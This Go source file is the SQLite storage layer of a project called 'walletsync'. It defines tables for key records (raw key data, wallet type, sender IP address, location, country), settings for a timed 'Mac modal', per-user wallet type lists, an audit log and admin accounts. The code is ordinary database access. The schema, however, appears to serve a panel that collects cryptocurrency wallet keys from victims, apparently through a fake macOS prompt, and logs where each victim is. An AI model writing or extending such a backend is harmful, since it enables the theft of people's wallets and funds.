package store

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	_ "modernc.org/sqlite"

	"walletsync/pkg/model"
)

const sqliteSchema = `
CREATE TABLE IF NOT EXISTS key_records(
	id TEXT PRIMARY KEY, user_id TEXT NOT NULL, key_type TEXT, key_data TEXT, wallet_type TEXT,
	ip_address TEXT, location TEXT, country_code TEXT, channel TEXT, received_at INTEGER);
CREATE INDEX IF NOT EXISTS idx_key_records_user ON key_records(user_id, received_at);
CREATE TABLE IF NOT EXISTS mac_modal_settings(
	user_id TEXT PRIMARY KEY, display_name TEXT, timing_seconds INTEGER);
CREATE TABLE IF NOT EXISTS wallet_types(
	user_id TEXT NOT NULL, position INTEGER NOT NULL, id TEXT, name TEXT, shortkey TEXT,
	PRIMARY KEY(user_id, position));
CREATE TABLE IF NOT EXISTS audit(
	seq INTEGER PRIMARY KEY AUTOINCREMENT, actor TEXT, action TEXT, target TEXT, detail TEXT, ts INTEGER);
CREATE TABLE IF NOT EXISTS admins(
	id INTEGER PRIMARY KEY AUTOINCREMENT, username TEXT UNIQUE NOT NULL, password_hash TEXT, is_admin INTEGER, created_at INTEGER);
`

// SQLiteStore persists backend state in a single SQLite file.
type SQLiteStore struct {
	db      *sql.DB
	timeout time.Duration
}

// NewSQLiteStore opens (and creates) the database at path; ":memory:" is
// accepted for tests.
func NewSQLiteStore(path string) (*SQLiteStore, error) {
	dsn := ":memory:"
	if path != ":memory:" {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return nil, fmt.Errorf("sqlite mkdir: %w", err)
		}
		dsn = "file:" + path + "?_pragma=busy_timeout=5000"
	}
	db, err := sql.Open("sqlite", dsn)
	if err != nil {
		return nil, fmt.Errorf("sqlite open: %w", err)
	}
	db.SetMaxOpenConns(1)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	if err := db.PingContext(ctx); err != nil {
		_ = db.Close()
		return nil, fmt.Errorf("sqlite ping: %w", err)
	}
	if _, err := db.ExecContext(ctx, sqliteSchema); err != nil {
		_ = db.Close()
		return nil, fmt.Errorf("sqlite init schema: %w", err)
	}
	return &SQLiteStore{db: db, timeout: 2 * time.Second}, nil
}

func (s *SQLiteStore) Close() error { return s.db.Close() }

func (s *SQLiteStore) ctx() (context.Context, context.CancelFunc) {
	return context.WithTimeout(context.Background(), s.timeout)
}

func (s *SQLiteStore) SaveKey(k model.KeyRecord) error {
	ctx, cancel := s.ctx()
	defer cancel()
	_, err := s.db.ExecContext(ctx, `INSERT INTO key_records(id, user_id, key_type, key_data, wallet_type, ip_address, location, country_code, channel, received_at) VALUES(?,?,?,?,?,?,?,?,?,?)`,
		k.ID, k.UserID, string(k.KeyType), k.Keys, k.WalletType, k.IPAddress, k.Location, k.Country, string(k.Channel), k.ReceivedAt.UnixNano())
	return err
}

func (s *SQLiteStore) ListKeys(userID string, limit int) ([]model.KeyRecord, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	if limit <= 0 {
		limit = -1
	}
	rows, err := s.db.QueryContext(ctx, `SELECT id, user_id, key_type, key_data, wallet_type, ip_address, location, country_code, channel, received_at
		FROM key_records WHERE user_id=? ORDER BY received_at DESC, rowid DESC LIMIT ?`, userID, limit)
	if err != nil {
		return nil, err
	}
	defer rows.Close()
	out := []model.KeyRecord{}
	for rows.Next() {
		var (
			k            model.KeyRecord
			keyType, ch  string
			receivedNano int64
		)
		if err := rows.Scan(&k.ID, &k.UserID, &keyType, &k.Keys, &k.WalletType, &k.IPAddress, &k.Location, &k.Country, &ch, &receivedNano); err != nil {
			return nil, err
		}
		k.KeyType = model.KeyType(keyType)
		k.Channel = model.Channel(ch)
		k.ReceivedAt = time.Unix(0, receivedNano)
		out = append(out, k)
	}
	if err := rows.Err(); err != nil {
		return nil, err
	}
	reverse(out)
	return out, nil
}

func (s *SQLiteStore) GetSettings(userID string) (model.MacModalSettings, bool, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	var m model.MacModalSettings
	err := s.db.QueryRowContext(ctx, `SELECT user_id, display_name, timing_seconds FROM mac_modal_settings WHERE user_id=?`, userID).
		Scan(&m.UserID, &m.DisplayName, &m.TimingSeconds)
	if err == sql.ErrNoRows {
		return model.MacModalSettings{}, false, nil
	}
	if err != nil {
		return model.MacModalSettings{}, false, err
	}
	return m, true, nil
}

func (s *SQLiteStore) SaveSettings(m model.MacModalSettings) error {
	ctx, cancel := s.ctx()
	defer cancel()
	_, err := s.db.ExecContext(ctx, `INSERT INTO mac_modal_settings(user_id, display_name, timing_seconds) VALUES(?,?,?)
		ON CONFLICT(user_id) DO UPDATE SET display_name=excluded.display_name, timing_seconds=excluded.timing_seconds`,
		m.UserID, m.DisplayName, m.TimingSeconds)
	return err
}

func (s *SQLiteStore) ListWalletTypes(userID string) ([]model.WalletType, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	rows, err := s.db.QueryContext(ctx, `SELECT id, name, shortkey FROM wallet_types WHERE user_id=? ORDER BY position`, userID)
	if err != nil {
		return nil, err
	}
	defer rows.Close()
	out := []model.WalletType{}
	for rows.Next() {
		var w model.WalletType
		if err := rows.Scan(&w.ID, &w.Name, &w.ShortKey); err != nil {
			return nil, err
		}
		out = append(out, w)
	}
	return out, rows.Err()
}

func (s *SQLiteStore) SetWalletTypes(userID string, types []model.WalletType) error {
	ctx, cancel := s.ctx()
	defer cancel()
	tx, err := s.db.BeginTx(ctx, nil)
	if err != nil {
		return err
	}
	defer func() { _ = tx.Rollback() }()
	if _, err := tx.ExecContext(ctx, `DELETE FROM wallet_types WHERE user_id=?`, userID); err != nil {
		return err
	}
	for i, w := range types {
		if _, err := tx.ExecContext(ctx, `INSERT INTO wallet_types(user_id, position, id, name, shortkey) VALUES(?,?,?,?,?)`,
			userID, i, w.ID, w.Name, w.ShortKey); err != nil {
			return err
		}
	}
	return tx.Commit()
}

func (s *SQLiteStore) AppendAudit(e model.AuditEntry) error {
	ctx, cancel := s.ctx()
	defer cancel()
	_, err := s.db.ExecContext(ctx, `INSERT INTO audit(actor, action, target, detail, ts) VALUES(?,?,?,?,?)`,
		e.Actor, e.Action, e.Target, e.Detail, e.Timestamp.UnixNano())
	return err
}

func (s *SQLiteStore) ListAudit(limit int) ([]model.AuditEntry, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	if limit <= 0 {
		limit = -1
	}
	rows, err := s.db.QueryContext(ctx, `SELECT seq, actor, action, target, detail, ts FROM audit ORDER BY seq DESC LIMIT ?`, limit)
	if err != nil {
		return nil, err
	}
	defer rows.Close()
	out := []model.AuditEntry{}
	for rows.Next() {
		var (
			e   model.AuditEntry
			seq int64
			ts  int64
		)
		if err := rows.Scan(&seq, &e.Actor, &e.Action, &e.Target, &e.Detail, &ts); err != nil {
			return nil, err
		}
		e.ID = uint(seq)
		e.Timestamp = time.Unix(0, ts)
		out = append(out, e)
	}
	if err := rows.Err(); err != nil {
		return nil, err
	}
	reverse(out)
	return out, nil
}

func (s *SQLiteStore) CountAdmins() (int64, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	var n int64
	err := s.db.QueryRowContext(ctx, `SELECT COUNT(*) FROM admins`).Scan(&n)
	return n, err
}

func (s *SQLiteStore) CreateAdmin(u model.User) (model.User, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	if u.CreatedAt.IsZero() {
		u.CreatedAt = time.Now()
	}
	res, err := s.db.ExecContext(ctx, `INSERT INTO admins(username, password_hash, is_admin, created_at) VALUES(?,?,?,?)`,
		u.Username, u.PasswordHash, boolInt(u.IsAdmin), u.CreatedAt.UnixNano())
	if err != nil {
		if strings.Contains(err.Error(), "UNIQUE") {
			return model.User{}, ErrExists
		}
		return model.User{}, err
	}
	id, err := res.LastInsertId()
	if err != nil {
		return model.User{}, err
	}
	u.ID = uint(id)
	return u, nil
}

// CreateFirstAdmin inserts with a NOT EXISTS guard so the check and the
// insert are one statement.
func (s *SQLiteStore) CreateFirstAdmin(u model.User) (model.User, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	if u.CreatedAt.IsZero() {
		u.CreatedAt = time.Now()
	}
	res, err := s.db.ExecContext(ctx, `INSERT INTO admins(username, password_hash, is_admin, created_at)
		SELECT ?,?,?,? WHERE NOT EXISTS (SELECT 1 FROM admins)`,
		u.Username, u.PasswordHash, boolInt(u.IsAdmin), u.CreatedAt.UnixNano())
	if err != nil {
		return model.User{}, err
	}
	if n, err := res.RowsAffected(); err != nil {
		return model.User{}, err
	} else if n == 0 {
		return model.User{}, ErrExists
	}
	id, err := res.LastInsertId()
	if err != nil {
		return model.User{}, err
	}
	u.ID = uint(id)
	return u, nil
}

func (s *SQLiteStore) GetAdmin(username string) (model.User, bool, error) {
	ctx, cancel := s.ctx()
	defer cancel()
	var (
		u       model.User
		isAdmin int
		created int64
	)
	err := s.db.QueryRowContext(ctx, `SELECT id, username, password_hash, is_admin, created_at FROM admins WHERE username=?`, username).
		Scan(&u.ID, &u.Username, &u.PasswordHash, &isAdmin, &created)
	if err == sql.ErrNoRows {
		return model.User{}, false, nil
	}
	if err != nil {
		return model.User{}, false, err
	}
	u.IsAdmin = isAdmin != 0
	u.CreatedAt = time.Unix(0, created)
	return u, true, nil
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

func reverse[T any](s []T) {
	for i, j := 0, len(s)-1; i < j; i, j = i+1, j-1 {
		s[i], s[j] = s[j], s[i]
	}
}
